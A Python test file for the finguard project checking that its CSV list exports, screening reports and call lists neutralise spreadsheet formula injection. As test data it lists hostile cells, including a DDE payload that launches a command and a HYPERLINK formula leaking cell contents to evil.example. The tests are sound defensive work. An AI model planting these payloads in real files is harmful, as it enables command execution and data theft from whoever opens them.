"""Safe exports (issue #18): no cell of a CSV finguard writes starts a spreadsheet formula.

A list entry or a screened party named ``=HYPERLINK(...)`` or ``=cmd|' /C calc'!A0`` (DDE) came
back verbatim in list exports and screening reports; now every such cell starts with an
apostrophe (shown as text, never run), and a list export still re-imports unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from finguard.app.platform import Platform
from finguard.core.exports import FORMULA_STARTS, safe_cell, unsafe_cell

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def no_formula(text: str) -> None:
    bad = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert not bad, bad


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_is_undone_exactly(value: str) -> None:
    safe = safe_cell(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert unsafe_cell(safe) == value


def test_numbers_are_left_as_numbers() -> None:
    assert safe_cell(-3) == -3


def test_list_exports_neutralise_formulas_and_reimport_unchanged(client: TestClient, admin_key: str, platform: Platform) -> None:
    h = {"X-API-Key": admin_key}
    platform.lists.create_list("watch", "Watch", "internal", "bank", "medium")
    rows = ["key,subject,id_type,id_value,name,reason,source"]
    for i, evil in enumerate(HOSTILE):
        quoted = '"' + evil.replace('"', '""') + '"'
        rows.append(f"k{i},identifier,account,62220210011223{i:05d},{quoted},{quoted},{quoted}")
    body = "\n".join(rows) + "\n"
    r = client.post("/api/v1/lists/watch/import", params={"format": "csv"}, content=body.encode(), headers=h)
    assert r.status_code == 200 and r.json()["added"] == len(HOSTILE), r.text
    exported = client.get("/api/v1/lists/watch/export", params={"format": "csv"}, headers=h)
    no_formula(exported.text)
    assert "'=cmd|' /C calc'!A0" in cells(exported.text)
    again = client.post("/api/v1/lists/watch/import", params={"format": "csv"}, content=exported.content, headers=h).json()
    assert (again["added"], again["changed"], again["unchanged"]) == (0, 0, len(HOSTILE))


def test_screening_csv_reports_neutralise_formulas(client: TestClient, admin_key: str) -> None:
    h = {"X-API-Key": admin_key}
    lines = ["key,name"] + [f'p{i},"{evil.replace(chr(34), chr(34) * 2)}"' for i, evil in enumerate(HOSTILE)]
    r = client.post(
        "/api/v1/parties/screen/batch", params={"format": "csv", "report": "csv"}, content="\n".join(lines).encode(), headers=h
    )
    assert r.status_code == 200, r.text
    no_formula(r.text)
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in cells(r.text)


def test_the_branch_call_list_neutralises_formulas(tmp_path: Path) -> None:
    from finguard.loans.channels import CallListSender
    from finguard.loans.service.outreach import Channel, Message

    path = tmp_path / "calls.csv"
    sender = CallListSender(path)
    for i, evil in enumerate(HOSTILE):
        sender.send(Message(f"k{i}", "c", f"cust{i}", Channel.CALL, "+8613912345678", "zh", "s", evil))
    text = path.read_text(encoding="utf-8")
    no_formula(text)
    assert "'+8613912345678" in cells(text)
